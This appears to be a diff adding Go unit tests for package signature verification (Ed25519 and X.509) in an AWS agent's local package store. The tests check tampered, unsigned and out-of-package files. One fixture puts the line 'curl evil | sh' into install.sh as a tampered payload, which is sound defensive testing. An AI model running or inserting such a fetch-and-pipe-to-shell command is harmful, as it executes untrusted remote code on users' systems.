@@ -0,0 +1,320 @@
+// Copyright 2017 Amazon.com, Inc. or its affiliates. All Rights Reserved.
+//
+// Licensed under the Apache License, Version 2.0 (the "License"). You may not
+// use this file except in compliance with the License. A copy of the
+// License is located at
+//
+// http://aws.amazon.com/apache2.0/
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or
+// implied. See the License for the specific language governing
+// permissions and limitations under the License.
+
+package localpackages
+
+import (
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/sha256"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/asn1"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"encoding/pem"
+	"io/ioutil"
+	"math/big"
+	"os"
+	"path"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/aws/amazon-ssm-agent/agent/appconfig"
+	"github.com/stretchr/testify/assert"
+	"golang.org/x/crypto/ed25519"
+)
+
+const signedVersion = "1.0.0"
+
+var signedFiles = map[string][]byte{
+	"manifest.json": []byte(`{"name":"SsmTest","version":"1.0.0"}`),
+	"install.sh":    []byte("echo install"),
+}
+
+func digestOf(content []byte) string {
+	digest := sha256.Sum256(content)
+	return hex.EncodeToString(digest[:])
+}
+
+func newSignature(algorithm string, files map[string][]byte) *PackageSignature {
+	signature := &PackageSignature{Algorithm: algorithm, Files: make(map[string]string)}
+	for name, content := range files {
+		signature.Files[name] = digestOf(content)
+	}
+	return signature
+}
+
+// mockSignedPackage sets up the file system mock for a package version with the given files and signature
+func mockSignedPackage(files map[string][]byte, signature *PackageSignature) *MockedFileSys {
+	versionPath := path.Join(testRepoRoot, testPackage, signedVersion)
+	mockFileSys := MockedFileSys{}
+	fileNames := map[string][]string{"": {}}
+	dirNames := map[string][]string{}
+	for name, content := range files {
+		mockFileSys.On("ReadFile", path.Join(versionPath, name)).Return(content, nil)
+		dir := strings.Trim(path.Dir(name), ".")
+		fileNames[dir] = append(fileNames[dir], path.Base(name))
+		// register the directory and its parents the first time they are seen
+		for ; dir != ""; dir = strings.Trim(path.Dir(dir), ".") {
+			parent := strings.Trim(path.Dir(dir), ".")
+			if !containsName(dirNames[parent], path.Base(dir)) {
+				dirNames[parent] = append(dirNames[parent], path.Base(dir))
+			}
+			if _, listed := fileNames[dir]; !listed {
+				fileNames[dir] = []string{}
+			}
+		}
+	}
+	if signature != nil {
+		content, _ := json.Marshal(signature)
+		fileNames[""] = append(fileNames[""], PackageSignatureFileName)
+		mockFileSys.On("Exists", path.Join(versionPath, PackageSignatureFileName)).Return(true)
+		mockFileSys.On("ReadFile", path.Join(versionPath, PackageSignatureFileName)).Return(content, nil)
+	} else {
+		mockFileSys.On("Exists", path.Join(versionPath, PackageSignatureFileName)).Return(false)
+	}
+	for dir, names := range fileNames {
+		mockFileSys.On("GetFileNames", path.Join(versionPath, dir)).Return(names, nil)
+		mockFileSys.On("GetDirectoryNames", path.Join(versionPath, dir)).Return(dirNames[dir], nil)
+	}
+	return &mockFileSys
+}
+
+func containsName(names []string, name string) bool {
+	for _, candidate := range names {
+		if candidate == name {
+			return true
+		}
+	}
+	return false
+}
+
+func newEd25519Verifier(t *testing.T) (*signatureVerifier, ed25519.PrivateKey) {
+	publicKey, privateKey, err := ed25519.GenerateKey(rand.Reader)
+	assert.NoError(t, err)
+	verifier := newSignatureVerifier(appconfig.PackageSigningCfg{
+		RequireSignature:   true,
+		TrustedEd25519Keys: []string{base64.StdEncoding.EncodeToString(publicKey)},
+	})
+	return verifier, privateKey
+}
+
+func verify(verifier *signatureVerifier, mockFileSys *MockedFileSys) error {
+	return verifier.verifyPackage(tracerMock, mockFileSys, path.Join(testRepoRoot, testPackage, signedVersion))
+}
+
+func TestNewSignatureVerifierNotConfigured(t *testing.T) {
+	assert.Nil(t, newSignatureVerifier(appconfig.PackageSigningCfg{}))
+}
+
+func TestNewSignatureVerifierInvalidKeyFailsClosed(t *testing.T) {
+	verifier := newSignatureVerifier(appconfig.PackageSigningCfg{TrustedEd25519Keys: []string{"not-a-key"}})
+	signature := newSignature(SignatureAlgorithmEd25519, signedFiles)
+
+	err := verify(verifier, mockSignedPackage(signedFiles, signature))
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "configuration is invalid")
+}
+
+func TestVerifyPackageEd25519(t *testing.T) {
+	verifier, privateKey := newEd25519Verifier(t)
+	signature := newSignature(SignatureAlgorithmEd25519, signedFiles)
+	signature.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signature.SignedPayload()))
+
+	assert.NoError(t, verify(verifier, mockSignedPackage(signedFiles, signature)))
+}
+
+func TestVerifyPackageUntrustedKey(t *testing.T) {
+	verifier, _ := newEd25519Verifier(t)
+	_, otherKey, _ := ed25519.GenerateKey(rand.Reader)
+	signature := newSignature(SignatureAlgorithmEd25519, signedFiles)
+	signature.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(otherKey, signature.SignedPayload()))
+
+	err := verify(verifier, mockSignedPackage(signedFiles, signature))
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "not made by a trusted ed25519 key")
+}
+
+func TestVerifyPackageModifiedFile(t *testing.T) {
+	verifier, privateKey := newEd25519Verifier(t)
+	signature := newSignature(SignatureAlgorithmEd25519, signedFiles)
+	signature.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signature.SignedPayload()))
+
+	tampered := map[string][]byte{
+		"manifest.json": signedFiles["manifest.json"],
+		"install.sh":    []byte("curl evil | sh"),
+	}
+	err := verify(verifier, mockSignedPackage(tampered, signature))
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "digest of file install.sh does not match")
+}
+
+func TestVerifyPackageUnsignedFile(t *testing.T) {
+	verifier, privateKey := newEd25519Verifier(t)
+	signature := newSignature(SignatureAlgorithmEd25519, signedFiles)
+	signature.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signature.SignedPayload()))
+
+	extended := map[string][]byte{"validate.sh": []byte("exit 0")}
+	for name, content := range signedFiles {
+		extended[name] = content
+	}
+	err := verify(verifier, mockSignedPackage(extended, signature))
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "validate.sh is not covered by the signature")
+}
+
+func TestVerifyPackageUnsignedFileInOutputDirectory(t *testing.T) {
+	verifier, privateKey := newEd25519Verifier(t)
+	signature := newSignature(SignatureAlgorithmEd25519, signedFiles)
+	signature.Outputs = []string{"logs"}
+	signature.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signature.SignedPayload()))
+
+	// files written by the install scripts below a signed output directory are accepted
+	extended := map[string][]byte{"logs/install.log": []byte("installed")}
+	for name, content := range signedFiles {
+		extended[name] = content
+	}
+	assert.NoError(t, verify(verifier, mockSignedPackage(extended, signature)))
+
+	// but an unsigned action script at the package root is not
+	extended["validate.sh"] = []byte("exit 0")
+	err := verify(verifier, mockSignedPackage(extended, signature))
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "validate.sh is not covered by the signature")
+}
+
+func TestVerifyPackageOutputDirectoryIsSigned(t *testing.T) {
+	verifier, privateKey := newEd25519Verifier(t)
+	signature := newSignature(SignatureAlgorithmEd25519, signedFiles)
+	signature.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signature.SignedPayload()))
+
+	// adding an output directory after signing invalidates the signature
+	signature.Outputs = []string{"logs"}
+	err := verify(verifier, mockSignedPackage(signedFiles, signature))
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "not made by a trusted ed25519 key")
+}
+
+func TestVerifyPackageOutputDirectoryIsPackageRoot(t *testing.T) {
+	verifier, privateKey := newEd25519Verifier(t)
+	for _, outputDir := range []string{".", "./", "..", "../other", "/tmp"} {
+		signature := newSignature(SignatureAlgorithmEd25519, signedFiles)
+		signature.Outputs = []string{outputDir}
+		signature.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signature.SignedPayload()))
+
+		err := verify(verifier, mockSignedPackage(signedFiles, signature))
+		assert.Error(t, err, outputDir)
+		assert.Contains(t, err.Error(), "is not a directory of the package", outputDir)
+	}
+}
+
+func TestVerifyPackageMissingSignedFile(t *testing.T) {
+	verifier, privateKey := newEd25519Verifier(t)
+	signature := newSignature(SignatureAlgorithmEd25519, signedFiles)
+	signature.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signature.SignedPayload()))
+
+	mockFileSys := mockSignedPackage(map[string][]byte{"manifest.json": signedFiles["manifest.json"]}, signature)
+	mockFileSys.On("ReadFile", path.Join(testRepoRoot, testPackage, signedVersion, "install.sh")).Return([]byte{}, os.ErrNotExist)
+	err := verify(verifier, mockFileSys)
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "signed file install.sh is missing")
+}
+
+func TestVerifyPackageSignedFileOutsidePackage(t *testing.T) {
+	verifier, privateKey := newEd25519Verifier(t)
+	files := map[string][]byte{"../other/install.sh": []byte("echo install")}
+	signature := newSignature(SignatureAlgorithmEd25519, files)
+	signature.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signature.SignedPayload()))
+
+	err := verify(verifier, mockSignedPackage(signedFiles, signature))
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "is not a file of the package")
+}
+
+func TestVerifyPackageMissingSignature(t *testing.T) {
+	verifier, _ := newEd25519Verifier(t)
+
+	err := verify(verifier, mockSignedPackage(signedFiles, nil))
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "package is not signed")
+}
+
+func TestVerifyPackageMissingSignatureNotRequired(t *testing.T) {
+	publicKey, _, _ := ed25519.GenerateKey(rand.Reader)
+	verifier := newSignatureVerifier(appconfig.PackageSigningCfg{
+		TrustedEd25519Keys: []string{base64.StdEncoding.EncodeToString(publicKey)},
+	})
+
+	assert.NoError(t, verify(verifier, mockSignedPackage(signedFiles, nil)))
+}
+
+func TestVerifyPackageX509(t *testing.T) {
+	rootKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	rootTemplate := &x509.Certificate{
+		SerialNumber:          big.NewInt(1),
+		Subject:               pkix.Name{CommonName: "Test Root"},
+		NotBefore:             time.Now().Add(-time.Hour),
+		NotAfter:              time.Now().Add(time.Hour),
+		IsCA:                  true,
+		BasicConstraintsValid: true,
+		KeyUsage:              x509.KeyUsageCertSign,
+	}
+	rootDer, err := x509.CreateCertificate(rand.Reader, rootTemplate, rootTemplate, &rootKey.PublicKey, rootKey)
+	assert.NoError(t, err)
+	rootCert, _ := x509.ParseCertificate(rootDer)
+
+	publisherKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	publisherTemplate := &x509.Certificate{
+		SerialNumber: big.NewInt(2),
+		Subject:      pkix.Name{CommonName: "Test Publisher"},
+		NotBefore:    time.Now().Add(-time.Hour),
+		NotAfter:     time.Now().Add(time.Hour),
+		KeyUsage:     x509.KeyUsageDigitalSignature,
+		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning},
+	}
+	publisherDer, err := x509.CreateCertificate(rand.Reader, publisherTemplate, rootCert, &publisherKey.PublicKey, rootKey)
+	assert.NoError(t, err)
+
+	tempDir, err := ioutil.TempDir("", "signature")
+	assert.NoError(t, err)
+	defer os.RemoveAll(tempDir)
+	rootFile := filepath.Join(tempDir, "root.pem")
+	assert.NoError(t, ioutil.WriteFile(rootFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: rootDer}), os.ModePerm))
+	verifier := newSignatureVerifier(appconfig.PackageSigningCfg{
+		RequireSignature:        true,
+		TrustedCertificateFiles: []string{rootFile},
+	})
+
+	signature := newSignature(SignatureAlgorithmX509, signedFiles)
+	signature.Certificates = []string{string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: publisherDer}))}
+	digest := sha256.Sum256(signature.SignedPayload())
+	r, s, err := ecdsa.Sign(rand.Reader, publisherKey, digest[:])
+	assert.NoError(t, err)
+	signatureBytes, _ := asn1.Marshal(struct{ R, S *big.Int }{r, s})
+	signature.Signature = base64.StdEncoding.EncodeToString(signatureBytes)
+
+	assert.NoError(t, verify(verifier, mockSignedPackage(signedFiles, signature)))
+
+	// a self-signed publisher certificate is not trusted
+	selfSignedDer, _ := x509.CreateCertificate(rand.Reader, publisherTemplate, publisherTemplate, &publisherKey.PublicKey, publisherKey)
+	signature.Certificates = []string{string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: selfSignedDer}))}
+	err = verify(verifier, mockSignedPackage(signedFiles, signature))
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "is not trusted")
+}